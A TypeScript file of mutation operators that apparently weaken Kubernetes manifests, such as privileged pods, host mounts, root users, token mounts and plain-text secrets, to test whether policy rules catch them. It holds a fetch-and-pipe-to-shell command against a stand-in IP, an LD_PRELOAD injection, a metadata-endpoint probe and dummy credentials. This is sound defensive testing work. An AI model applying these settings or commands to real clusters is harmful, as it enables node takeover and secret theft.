import { containers, kind, pods, type Operator } from './operator';

/** Pods that keep to Pod Security `restricted`; the device plugin may not. */
const kept = containers(({ securityContext }) => securityContext && !securityContext.privileged);
const specs = pods((_spec, { metadata }) => metadata.namespace !== 'gpu');
const context = (change: object) => (container: any) => { container.securityContext = { ...container.securityContext, ...change }; };
const podContext = (change: object) => (spec: any) => { spec.securityContext = { ...spec.securityContext, ...change }; };
const volume = (name: string, source: object) => (spec: any) => { spec.volumes = [...(spec.volumes ?? []), { name, ...source }]; spec.containers[0].volumeMounts = [...(spec.containers[0].volumeMounts ?? []), { name, mountPath: `/${name}` }]; };
const hostile = { name: 'setup', image: 'docker.io/library/busybox:1.37.0', command: ['sh', '-c', 'id'] };

/** What pods may do on their node. */
export const podSecurity: readonly Operator[] = [
  { id: 'privileged', rule: 'privileged-container', diff: 'security widens pods', critical: true, at: kept, act: context({ privileged: true }) },
  { id: 'a capability', rule: 'capabilities', diff: 'security widens pods', critical: true, at: kept, act: context({ capabilities: { drop: ['ALL'], add: ['SYS_ADMIN'] } }) },
  { id: 'capabilities kept', rule: 'capabilities', diff: 'security widens pods', at: kept, act: ({ securityContext }) => { delete securityContext.capabilities; } },
  { id: 'some capabilities dropped instead of all', rule: 'capabilities', diff: 'security widens pods', at: kept, act: context({ capabilities: { drop: ['NET_RAW'] } }) },
  { id: 'no seccomp', rule: 'seccomp', diff: 'security widens pods', critical: true, at: specs, act: ({ securityContext }) => { delete securityContext.seccompProfile; } },
  { id: 'seccomp unconfined in one container', rule: 'seccomp', diff: 'security widens pods', critical: true, at: kept, act: context({ seccompProfile: { type: 'Unconfined' } }) },
  { id: "the node's network", rule: 'host-namespaces', diff: 'security widens pods|security widens reach', critical: true, at: specs, act: (spec) => { spec.hostNetwork = true; } },
  { id: "the node's processes", rule: 'host-namespaces', diff: 'security widens pods', critical: true, at: specs, act: (spec) => { spec.hostPID = true; } },
  { id: "the node's IPC", rule: 'host-namespaces', diff: 'security widens pods', at: specs, act: (spec) => { spec.hostIPC = true; } },
  { id: 'a host path', rule: 'volume-types', diff: 'security widens pods', critical: true, at: specs, act: volume('node', { hostPath: { path: '/' } }) },
  { id: "the runtime's socket", rule: 'volume-types', diff: 'security widens pods', critical: true, at: specs, act: volume('run', { hostPath: { path: '/run/containerd/containerd.sock', type: 'Socket' } }) },
  { id: 'a network file system', rule: 'volume-types', diff: 'security widens', at: specs, act: volume('share', { nfs: { server: '198.51.100.7', path: '/' } }) },
  { id: 'a volume of a driver', rule: 'volume-types', diff: 'security widens', at: specs, act: volume('driver', { csi: { driver: 'secrets-store.csi.k8s.io', readOnly: true } }) },
  { id: 'a port of the node', rule: 'host-port', diff: 'security widens', at: containers(({ ports, securityContext }) => ports?.length && !securityContext.privileged), act: ({ ports }) => { ports[0].hostPort = ports[0].containerPort; } },
  { id: 'root', rule: 'run-as-non-root', diff: 'security widens pods', critical: true, at: specs, act: podContext({ runAsUser: 0, runAsNonRoot: false }) },
  { id: 'root in one container', rule: 'run-as-non-root', diff: 'security widens pods', critical: true, at: kept, act: context({ runAsUser: 0 }) },
  { id: 'perhaps root', rule: 'run-as-non-root', diff: 'security widens pods', at: specs, act: ({ securityContext }) => { delete securityContext.runAsNonRoot; delete securityContext.runAsUser; } },
  { id: "root's group", diff: 'security widens pods', at: specs, act: podContext({ supplementalGroups: [0] }) },
  { id: 'rights may grow', rule: 'privilege-escalation', diff: 'security widens pods', critical: true, at: kept, act: context({ allowPrivilegeEscalation: true }) },
  { id: 'rights may grow by default', rule: 'privilege-escalation', diff: 'security widens pods', at: kept, act: ({ securityContext }) => { delete securityContext.allowPrivilegeEscalation; } },
  { id: 'files can be changed', rule: 'read-only-root', diff: 'security widens pods', at: containers(({ securityContext }) => securityContext.readOnlyRootFilesystem), act: context({ readOnlyRootFilesystem: false }) },
  { id: 'no security context', rule: 'privilege-escalation', diff: 'security widens pods', critical: true, at: kept, act: (container) => { delete container.securityContext; } },
  { id: 'unmasked /proc', rule: 'unsafe-pod-settings', diff: 'security widens pods', at: kept, act: context({ procMount: 'Unmasked' }) },
  { id: 'AppArmor unconfined', rule: 'unsafe-pod-settings', diff: 'security widens pods', at: specs, act: podContext({ appArmorProfile: { type: 'Unconfined' } }) },
  { id: 'SELinux of a super user', rule: 'unsafe-pod-settings', diff: 'security widens pods', at: kept, act: context({ seLinuxOptions: { type: 'spc_t' } }) },
  { id: 'an unsafe sysctl', rule: 'unsafe-pod-settings', diff: 'security widens pods', at: specs, act: podContext({ sysctls: [{ name: 'kernel.msgmax', value: '65536' }] }) },
  { id: 'HostProcess of Windows', rule: 'unsafe-pod-settings', diff: 'security widens pods', at: specs, act: podContext({ windowsOptions: { hostProcess: true } }) },
  { id: 'processes of a pod see each other', diff: 'security widens pods', at: specs, act: (spec) => { spec.shareProcessNamespace = true; } },
  { id: 'mounts spread to the node', diff: 'security widens pods', at: containers(({ volumeMounts, securityContext }) => volumeMounts?.length && !securityContext.privileged), act: ({ volumeMounts }) => { volumeMounts[0].mountPropagation = 'Bidirectional'; } },
  { id: 'a privileged init container', rule: 'privileged-container', diff: 'security widens pods', critical: true, at: specs, act: (spec) => { spec.initContainers = [{ ...hostile, securityContext: { privileged: true } }]; } },
  { id: 'a side container', diff: 'security widens', at: specs, act: (spec) => spec.containers.push({ ...spec.containers[0], name: 'side', image: 'docker.io/library/busybox:1.37.0', command: ['sleep', '9'], ports: [], readinessProbe: undefined }) },
  { id: 'tolerates every taint', rule: 'gpu-pods', diff: 'security widens', at: specs, act: (spec) => { spec.tolerations = [{ operator: 'Exists' }]; } },
  { id: 'a GPU', rule: 'gpu-pods', diff: 'cost neutral', at: kept, act: ({ resources }) => { resources.limits['nvidia.com/gpu'] = 1; } },
  { id: 'the priority of the cluster', diff: 'security widens', at: pods(), act: (spec) => { spec.priorityClassName = 'system-node-critical'; } },
  { id: 'the scheduler is passed by', diff: 'security widens', at: specs, act: (spec) => { spec.nodeName = 'control-plane-0'; } },
  { id: 'nodes of the control plane', diff: 'security widens', at: specs, act: (spec) => { spec.nodeSelector = { 'node-role.kubernetes.io/control-plane': '' }; spec.tolerations = [{ key: 'node-role.kubernetes.io/control-plane', operator: 'Exists' }]; } },
  { id: 'a runtime of its own', diff: 'security widens', at: kind('RuntimeClass'), act: (runtime) => { runtime.handler = 'runc-debug'; } },
  { id: 'another runtime class', diff: 'security widens', at: specs, act: (spec) => { spec.runtimeClassName = 'nvidia'; } },
  {
    id: 'a pod beside all workloads', rule: 'privileged-container', diff: 'security widens pods', critical: true, at: kind('ServiceAccount'),
    act: ({ metadata }, { add }) => add({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'debug', namespace: metadata.namespace }, spec: { containers: [{ ...hostile, securityContext: { privileged: true } }] } }),
  },
  { id: "root's primary group", diff: 'security widens pods', at: specs, act: podContext({ runAsGroup: 0 }) },
  { id: 'the volume of another', diff: 'security widens pods', at: specs, act: volume('other', { persistentVolumeClaim: { claimName: 'data-postgresql-0' } }) },
  { id: 'a repository as a volume', rule: 'volume-types', diff: 'security widens', at: specs, act: volume('code', { gitRepo: { repository: 'https://mallory.example/x.git' } }) },
  { id: 'an image as a volume', diff: 'security widens', at: specs, act: volume('code', { image: { reference: 'ghcr.io/mallory/x:1' } }) },
  { id: 'devices by a claim', diff: 'security widens', at: specs, act: (spec) => { spec.resourceClaims = [{ name: 'gpu', resourceClaimName: 'all' }]; } },
];

const literal = (name: string, value: string) => (container: any) => { container.env = [...(container.env ?? []), { name, value }]; };

/** What code runs, and what it is told. */
export const code: readonly Operator[] = [
  { id: 'an image by a moving tag', rule: 'image-tag', diff: 'security widens image', critical: true, at: containers(), act: (container) => { container.image = container.image.replace(/:[^:/]*$/, ':latest'); } },
  { id: 'an image without a tag', rule: 'image-tag', diff: 'security widens image', critical: true, at: containers(), act: (container) => { container.image = container.image.replace(/:[^:/]*$/, ''); } },
  { id: 'another version', diff: 'security neutral image', at: containers(), act: (container) => { container.image = container.image.replace(/:[^:/]*$/, ':0.0.1-fix'); } },
  { id: 'an image of somebody else', rule: 'image-registry', diff: 'security widens image', at: containers(), act: (container) => { container.image = `ghcr.io/mallory/${container.image.split('/').pop()}`; } },
  { id: 'a registry that begins like ours', rule: 'image-registry', diff: 'security widens image', at: containers(), act: (container) => { container.image = container.image.replace('/', '.mallory.example/'); } },
  { id: 'a digest of the same tag', diff: 'security narrows image', at: containers(), act: (container) => { container.image += `@sha256:${'0'.repeat(64)}`; } },
  { id: 'another command', diff: 'security widens', at: containers(), act: (container) => { container.command = ['/bin/sh', '-c', 'wget -qO- http://198.51.100.7/x | sh']; } },
  { id: 'an argument more', diff: 'security widens', at: containers(({ args }) => args), act: ({ args }) => args.push('--hostname-strict=false') },
  { id: 'arguments in another order', diff: 'security widens', at: containers(({ args }) => args?.length > 1), act: ({ args }) => args.reverse() },
  { id: 'an exec when it starts', diff: 'security widens', at: containers(), act: (container) => { container.lifecycle = { postStart: { exec: { command: ['sh', '-c', 'id'] } } }; } },
  { id: 'an exec as a probe', diff: 'security widens', at: containers(({ livenessProbe }) => livenessProbe), act: (container) => { container.livenessProbe = { exec: { command: ['sh', '-c', 'id'] } }; } },
  { id: 'a library before all others', diff: 'security widens config', at: containers(), act: literal('LD_PRELOAD', '/tmp/x.so') },
  { id: 'another value of a variable', diff: 'security widens config', at: containers(({ env }) => env?.some((one: any) => one.value !== undefined)), act: ({ env }) => { env.find((one: any) => one.value !== undefined).value += '.mallory.example'; } },
  { id: 'a variable that goes', diff: 'security widens config', at: containers(({ env }) => env?.some((one: any) => one.value !== undefined)), act: ({ env }) => { env.splice(env.findIndex((one: any) => one.value !== undefined), 1); } },
  { id: 'names of hosts of its own', diff: 'security widens', at: specs, act: (spec) => { spec.hostAliases = [{ ip: '198.51.100.7', hostnames: ['keycloak.keycloak.svc.cluster.local'] }]; } },
  { id: 'another name server', diff: 'security widens', at: specs, act: (spec) => { spec.dnsPolicy = 'None'; spec.dnsConfig = { nameservers: ['198.51.100.7'] }; } },
  { id: 'a probe of another host', diff: 'security widens', at: containers(({ livenessProbe }) => livenessProbe?.httpGet), act: ({ livenessProbe }) => { livenessProbe.httpGet.host = '169.254.169.254'; } },
  { id: 'another text of a ConfigMap', diff: 'security widens config', at: kind('ConfigMap', ['data']), act: (data) => { data[Object.keys(data)[0]!] += '\n# changed\nui = true\n'; } },
  { id: 'another file in a ConfigMap', diff: 'security widens config', at: kind('ConfigMap', ['data']), act: (data) => { data['extra.conf'] = 'raw_storage_endpoint = true'; } },
];

const projected = (change: object) => (spec: any) => volume('token', { projected: { sources: [{ serviceAccountToken: { path: 'token', audience: 'minio', ...change } }] } })(spec);
const tokenless = pods((spec) => spec.automountServiceAccountToken === false);

/** Who a pod is, and which secrets it holds. */
export const identity: readonly Operator[] = [
  { id: 'a token of the API server', rule: 'service-account-token', diff: 'security widens', critical: true, at: tokenless, act: (spec) => { spec.automountServiceAccountToken = true; } },
  { id: 'a token by default', rule: 'service-account-token', diff: 'security widens', at: tokenless, act: (spec) => { delete spec.automountServiceAccountToken; } },
  { id: 'a token for all who name none', diff: 'security widens', at: kind('ServiceAccount', [], (account) => account.automountServiceAccountToken === false), act: (account) => { account.automountServiceAccountToken = true; } },
  { id: 'the default account', rule: 'service-account-token', diff: 'security widens', at: specs, act: (spec) => { spec.serviceAccountName = 'default'; } },
  { id: 'the account of another', diff: 'security widens', at: pods((_spec, { metadata }) => metadata.name === 'onyxia-web'), act: (spec) => { spec.serviceAccountName = 'onyxia-api'; } },
  { id: 'a projected token of the API server', diff: 'security widens', at: tokenless, act: projected({ audience: undefined, expirationSeconds: 3600 }) },
  { id: 'a projected token that lasts a year', rule: 'service-account-token', diff: 'security widens', at: tokenless, act: projected({ expirationSeconds: 31536000 }) },
  { id: 'a projected token for MinIO', diff: 'security widens', at: tokenless, act: projected({ expirationSeconds: 3600 }) },
  { id: 'rights in a cloud', diff: 'security widens', at: kind('ServiceAccount', ['metadata']), act: (metadata) => { metadata.annotations = { ...metadata.annotations, 'eks.amazonaws.com/role-arn': 'arn:aws:iam::123456789012:role/admin' }; } },
  {
    id: 'a token without end', rule: 'long-lived-token', diff: 'security widens secrets', at: kind('ServiceAccount'),
    act: ({ metadata }, { add }) => add({ apiVersion: 'v1', kind: 'Secret', type: 'kubernetes.io/service-account-token', metadata: { name: 'token', namespace: metadata.namespace, annotations: { 'kubernetes.io/service-account.name': metadata.name } } }),
  },
  { id: 'a secret mounted', diff: 'security widens secrets', at: specs, act: volume('stolen', { secret: { secretName: 'bootstrap-admin' } }) },
  { id: 'a secret by a projected volume', diff: 'security widens secrets', at: specs, act: volume('stolen', { projected: { sources: [{ secret: { name: 'root' } }] } }) },
  { id: 'a secret in the environment', diff: 'security widens secrets', at: containers(), act: (container) => { container.env = [...(container.env ?? []), { name: 'X', valueFrom: { secretKeyRef: { name: 'stolen', key: 'password' } } }]; } },
  { id: 'all of a secret in the environment', diff: 'security widens secrets', at: containers(), act: (container) => { container.envFrom = [{ secretRef: { name: 'database' } }]; } },
  { id: 'a secret in place of another', diff: 'security widens secrets', at: containers(({ env }) => env?.some((one: any) => one.valueFrom?.secretKeyRef)), act: ({ env }) => { env.find((one: any) => one.valueFrom?.secretKeyRef).valueFrom.secretKeyRef.name = 'other'; } },
  { id: 'a secret to pull images', diff: 'security widens', at: specs, act: (spec) => { spec.imagePullSecrets = [{ name: 'registry' }]; } },
];

/** Secrets in plain sight. None of the values is one. */
export const secrets: readonly Operator[] = [
  { id: 'a password in the environment', rule: 'secret-in-plain-sight', diff: 'security widens config', critical: true, at: containers(), act: literal('DB_PASSWORD', 'Tr0ub4dor&3') },
  { id: 'an access key under a harmless name', rule: 'secret-in-plain-sight', diff: 'security widens config', at: containers(), act: literal('REGION_HINT', `AKIA${'IOSFODNN7EXAMPLE'}`) },
  { id: 'a token of a forge', rule: 'secret-in-plain-sight', diff: 'security widens config', at: containers(), act: literal('HINT', `ghp_${'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'}`) },
  { id: 'a password in a URL', rule: 'secret-in-plain-sight', diff: 'security widens config', at: containers(), act: literal('STORE', 'postgresql://app:Tr0ub4dor3@db.example:5432/app') },
  { id: 'a password among the arguments', rule: 'secret-in-plain-sight', diff: 'security widens config', at: containers(), act: (container) => { container.args = [...(container.args ?? []), '--admin-password=Tr0ub4dor3']; } },
  { id: 'a password in the command', rule: 'secret-in-plain-sight', diff: 'security widens config', at: containers(), act: (container) => { container.command = ['sh', '-c', 'PASSWORD=Tr0ub4dor3 exec server']; } },
  { id: 'a private key in a ConfigMap', rule: 'secret-in-plain-sight', diff: 'security widens config', critical: true, at: kind('ConfigMap', ['data']), act: (data) => { data['tls.key'] = `-----BEGIN ${'PRIVATE'} KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END ${'PRIVATE'} KEY-----\n`; } },
  { id: 'a token in a ConfigMap', rule: 'secret-in-plain-sight', diff: 'security widens config', at: kind('ConfigMap', ['data']), act: (data) => { data.hint = ['eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9', 'eyJzdWIiOiJhZG1pbiIsImlhdCI6MTUxNjIzOTAyMn0', 'KMUFsIDTnFmyG3nMiGM6H9FNFUROf3wh7SmqJp-QV30'].join('.'); } },
  { id: 'a password in a JSON text of a ConfigMap', rule: 'secret-in-plain-sight', diff: 'security widens config', at: kind('ConfigMap', ['data']), act: (data) => { data['x.json'] = '{"db":{"user":"app","password":"Tr0ub4dor3"}}'; } },
  { id: 'a value in a Secret', rule: 'secret-value', diff: 'security widens secrets', critical: true, at: kind('Secret', ['stringData']), act: (data) => { data[Object.keys(data)[0]!] = 'Tr0ub4dor3'; } },
  { id: 'a value in a Secret, in base 64', rule: 'secret-value', diff: 'security widens secrets', at: kind('Secret'), act: (secret) => { secret.data = { extra: 'VHIwdWI0ZG9yMw==' }; } },
  {
    id: 'a Secret with a value', rule: 'secret-value', diff: 'security widens secrets', at: kind('ServiceAccount'),
    act: ({ metadata }, { add }) => add({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'helper', namespace: metadata.namespace }, stringData: { key: 'Tr0ub4dor3' } }),
  },
];
